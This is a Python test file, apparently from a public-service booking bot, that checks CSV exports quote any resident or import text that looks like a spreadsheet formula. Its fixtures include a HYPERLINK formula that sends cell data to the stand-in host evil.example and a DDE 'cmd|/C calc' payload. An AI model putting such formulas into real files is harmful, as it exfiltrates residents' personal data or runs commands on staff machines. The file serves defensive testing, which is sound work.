"""Every file the bot writes for staff is safe to open in a spreadsheet: a resident's (or an
import's) text that looks like a formula is written as text, kept whole (issue 14)."""

from __future__ import annotations

import csv
import dataclasses
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.importer import write_export
from bot.importfile import parse_import
from bot.services.container import Services
from bot.spreadsheet import cell, needs_quote, neutralise, restore
from bot.storage.export import read_bundle
from tests.booking_helpers import TUESDAY, next_account, nik, place_id
from tests.conftest import ADMIN_ID, OPERATOR_ID
from tests.visit_helpers import add_visit

# What a spreadsheet reads as a formula: one of these first, or after leading spaces; a negative
# number (a latitude) is read as that number and nothing else.
FORMULA_FIRST = ("=", "+", "-", "@", "\t", "\r")
NEGATIVE_NUMBER = re.compile(r"-\d+(\.\d+)?")


def opens_as_formula(text: str) -> bool:
    if NEGATIVE_NUMBER.fullmatch(text):
        return False
    return text.startswith(FORMULA_FIRST) or text.lstrip().startswith(FORMULA_FIRST)


# One payload per free-text column that can hold a resident's or an importer's words; a tab, a
# carriage return and leading spaces in the residents' columns (the importer trims its texts).
ATTACK = '=HYPERLINK("http://evil.example/?d="&E2&F2;"Klik")'
PERSON_TEXT = {
    ("bookings", "person_name"): "-Budi Santoso",
    ("bookings", "nik"): "+3674031705900001",
    ("bookings", "phone"): "@SUM(1+1)*cmd|' /C calc'!A0",
    ("home_visits", "person_name"): "\t=1+1 Siti",
    ("home_visits", "nik"): "\r=2+2",
    ("home_visits", "phone"): "  =3+3",
    ("home_visits", "address"): ATTACK,
    ("home_visits", "reason"): "-2+3+cmd",
    ("home_visits", "reason_note"): "=note",
    ("home_visits", "preferred_days"): "=days",
    ("home_visits", "notes"): "=notes",
    ("home_visits", "outcome_note"): "=outcome",
}
# Place and schedule texts come from imports and staff; the import format reads them back, so
# these stay on one line, trimmed. "'=…" checks that a quote already there survives.
PLACE_TEXT = {
    ("places", "name"): "=Kantor " + ATTACK,
    ("places", "address"): "+Jl. Raya 1",
    ("schools", "name"): "@SMAN 6",
    ("service_days", "title"): "-Layanan Sabtu",
    ("service_days", "room"): "=A1",
    ("service_days", "note"): "'=already quoted",
    ("closures", "reason"): "=Libur",
}
# Columns of these tables that hold no free text (keys, enums, codes, dates and times picked by
# staff): a new text column must be added to one list or the other.
STRUCTURAL = {
    "bookings": {"code", "status"},
    "home_visits": {
        "ticket",
        "kecamatan_code",
        "status",
        "visit_date",
        "window_start",
        "window_end",
    },
    "places": {"code", "kind", "kecamatan_code"},
    "schools": {"code", "kind", "kecamatan_code"},
    "service_days": {"date", "opens", "closes", "kind", "status"},
    "closures": {"date", "starts", "ends"},
}
# What the staff exports carry (the rest is planted to show that nothing leaks in raw either).
EXPORTED = [
    ("bookings", "person_name"),
    ("bookings", "nik"),
    ("bookings", "phone"),
    ("home_visits", "person_name"),
    ("home_visits", "nik"),
    ("home_visits", "phone"),
    ("home_visits", "address"),
    ("home_visits", "reason"),
    ("places", "name"),
]


async def plant(services: Services, values: dict[tuple[str, str], str]) -> None:
    """Write the values straight into the database, as if input checks had let them through."""
    for (table, column), value in values.items():
        await services.db.write(f"UPDATE {table} SET {column} = ?", (value,))


async def text_columns(services: Services, table: str) -> set[str]:
    rows = await services.db.fetchall(f"PRAGMA table_info({table})")
    return {row[1] for row in rows if row[2].upper() == "TEXT"}


def cells_of(data: str) -> list[str]:
    return [value for row in csv.reader(io.StringIO(data)) for value in row]


@pytest.fixture
async def planted(services):
    """A booking at the Pondok Aren office on Tuesday and a home-visit request, with every free
    text replaced by a formula."""
    office = await place_id(services)
    slot = (await services.booking.free_slots(office, TUESDAY))[0]
    owner = next_account()
    await services.booking.book(
        slot.slot_id, owner_id=owner, person_name="Siti Aminah", nik=nik(7), phone="081234567890"
    )
    await add_visit(services, owner)
    await plant(services, PERSON_TEXT | PLACE_TEXT)
    return services


async def test_every_free_text_column_is_planted(services):
    planted = PERSON_TEXT | PLACE_TEXT
    for table, structural in STRUCTURAL.items():
        columns = await text_columns(services, table)
        free = {column for t, column in planted if t == table}
        assert columns == free | structural, table


async def test_every_cell_of_every_staff_export_is_text(planted, make_chat):
    admin = make_chat(ADMIN_ID)
    operator = make_chat(OPERATOR_ID)
    documents = [
        *await admin.send("/ekspor bookings csv"),
        *await admin.send("/ekspor visits csv"),
        *await operator.send("/daftarhadir kec-pondok-aren 24/11 csv"),
    ]
    files = {
        m.file_name: m.file_bytes.decode("utf-8-sig")
        for m in documents
        if m.kind == "document" and m.file_name.endswith(".csv")
    }
    assert [name.split("-")[0] for name in files] == ["bookings", "home", "daftar"]
    cells = [value for data in files.values() for value in cells_of(data)]
    assert [value for value in cells if opens_as_formula(value)] == []
    for key in EXPORTED:
        assert "'" + (PERSON_TEXT | PLACE_TEXT)[key] in cells, key
    day_list = cells_of(files[next(n for n in files if n.startswith("daftar"))])
    assert "'-Budi Santoso" in day_list and "'@SUM(1+1)*cmd|' /C calc'!A0" in day_list


async def test_the_import_format_export_is_text_and_reads_back_the_same(services, tmp_path):
    await plant(services, PLACE_TEXT)
    bundle = await read_bundle(services.db, services.clock.today())
    assert write_export(bundle, "csv", tmp_path) == 0
    cells = [value for path in tmp_path.glob("*.csv") for value in cells_of(path.read_text())]
    assert [value for value in cells if opens_as_formula(value)] == []
    assert "'" + PLACE_TEXT["places", "name"] in cells
    assert "''=already quoted" in cells
    again = parse_import(tmp_path, regions=services.regions, today=services.clock.today())
    assert again == dataclasses.replace(bundle, description="")
    assert again.places[0].name == PLACE_TEXT["places", "name"]


# --- the helper itself --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    ["=1", "+62812", "-x", "@x", "\t=1", "\r=1", "\n=1", "  =1", "\u00a0=1", "'=1", "''+1"],
)
def test_formula_looking_text_is_quoted(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Siti", "'Siti", "3674031705900001", "Jl. =1", "0812"])
def test_plain_text_is_left_alone(text):
    assert neutralise(text) == text


def test_numbers_stay_numbers_and_none_is_empty():
    assert cell(-6.2717) == -6.2717
    assert cell(12) == 12
    assert cell(None) == ""
    assert cell(float("-inf")) == "'-inf"
    assert cell(True) == "True"


@given(st.text())
def test_quoting_is_safe_and_exactly_undone(text):
    quoted = neutralise(text)
    assert not opens_as_formula(quoted)
    assert restore(quoted) == text
    assert needs_quote(text) == (quoted != text)


def test_a_cell_typed_with_a_quote_in_a_spreadsheet_reads_as_its_text():
    assert restore("'=SUM(A1)") == "=SUM(A1)"
    assert restore("'Siti") == "'Siti"
